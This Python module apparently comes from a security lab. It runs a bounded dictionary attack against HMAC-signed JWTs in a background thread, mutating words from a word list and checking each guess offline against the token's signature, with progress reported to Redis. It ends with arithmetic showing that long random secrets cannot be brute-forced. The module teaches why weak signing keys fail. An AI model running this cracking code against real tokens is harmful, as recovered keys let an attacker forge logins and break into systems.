"""The dictionary attack, run on the server in one bounded background thread.

A guess is: HMAC-SHA256 over the token's header.payload with the candidate as the key, compared
with the token's signature. No network, no oracle: a token is all an attacker needs, because
anyone can check a guess offline. Progress goes to Redis (lab:weak:job:<id>), so the page can
poll it from any thread or process.
"""
import base64
import hashlib
import hmac
import math
import os
import threading
import time
import uuid

WORDLIST = os.path.join(os.path.dirname(os.path.abspath(__file__)), "wordlist.txt")
SUFFIXES = ["", "!", "123", "1234", "2024", "2025", "2026"] + [str(n) for n in range(100)]
MAX_CANDIDATES = 2_000_000  # the job's bound, whatever word list is configured
JOB_TTL = 600
_REPORT_EVERY = 2000
_DIGEST = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
_busy = threading.Semaphore(1)  # one crack at a time per process: 2 shared cores


def words(path=None):
    with open(path or WORDLIST, encoding="utf-8") as fh:
        return [w.strip() for w in fh if w.strip() and not w.startswith("#")]


def candidates(base):
    """Each word in three casings, each with every suffix: the usual mutations, in order."""
    count = 0
    for word in base:
        forms = dict.fromkeys([word, word.capitalize(), word.upper()])
        for form in forms:
            for suffix in SUFFIXES:
                yield form + suffix
                count += 1
                if count >= MAX_CANDIDATES:
                    return


def total(base):
    return sum(len(dict.fromkeys([w, w.capitalize(), w.upper()])) for w in base) * len(SUFFIXES)


def job_key(job):
    return f"lab:weak:job:{job}"


def _b64url(text):
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def run(redis_client, job, signing_input, signature, alg, base):
    digest = _DIGEST[alg]
    key = job_key(job)
    started = time.perf_counter()
    tried, found = 0, None
    try:
        for guess in candidates(base):
            tried += 1
            if hmac.compare_digest(hmac.digest(guess.encode(), signing_input, digest), signature):
                found = guess
                break
            if tried % _REPORT_EVERY == 0:
                elapsed = time.perf_counter() - started
                redis_client.hset(key, mapping={"tried": tried, "elapsed": f"{elapsed:.6f}"})
        elapsed = time.perf_counter() - started
        redis_client.hset(key, mapping={"tried": tried, "elapsed": f"{elapsed:.6f}",
                                        "state": "found" if found is not None else "exhausted",
                                        "found": found or ""})
        redis_client.expire(key, JOB_TTL)
    finally:
        _busy.release()


def start(redis_client, token, base):
    """Start cracking `token` (an HS* JWS) in a background thread; the job id, or None if busy."""
    head, body, sig = token.split(".")
    import json
    header = json.loads(_b64url(head))
    alg = header["alg"]
    if alg not in _DIGEST:
        raise ValueError("alg")
    signature = _b64url(sig)
    if not _busy.acquire(blocking=False):
        return None
    job = uuid.uuid4().hex
    redis_client.hset(job_key(job), mapping={"state": "running", "tried": 0, "elapsed": "0",
                                             "total": min(total(base), MAX_CANDIDATES),
                                             "alg": alg, "kid": str(header.get("kid", ""))[:64]})
    redis_client.expire(job_key(job), JOB_TTL)
    thread = threading.Thread(target=run, daemon=True, name=f"weak-crack-{job[:8]}",
                              args=(redis_client, job, f"{head}.{body}".encode(), signature, alg,
                                    base))
    try:
        thread.start()
    except Exception:
        _busy.release()
        raise
    return job


def out_of_reach(rate, secret_bytes=48):
    """The arithmetic for a secret of `secret_bytes` random bytes at `rate` guesses per second:
    the average search is half the key space. Numbers as powers of ten (they overflow floats)."""
    bits = secret_bytes * 8
    log10_space = bits * math.log10(2)
    log10_seconds = log10_space - math.log10(2) - math.log10(max(rate, 1e-9))
    log10_years = log10_seconds - math.log10(365.25 * 86400)
    return {"bits": bits, "log10_keys": round(log10_space, 1),
            "log10_seconds": round(log10_seconds, 1), "log10_years": round(log10_years, 1),
            "log10_universe_ages": round(log10_years - math.log10(1.38e10), 1)}
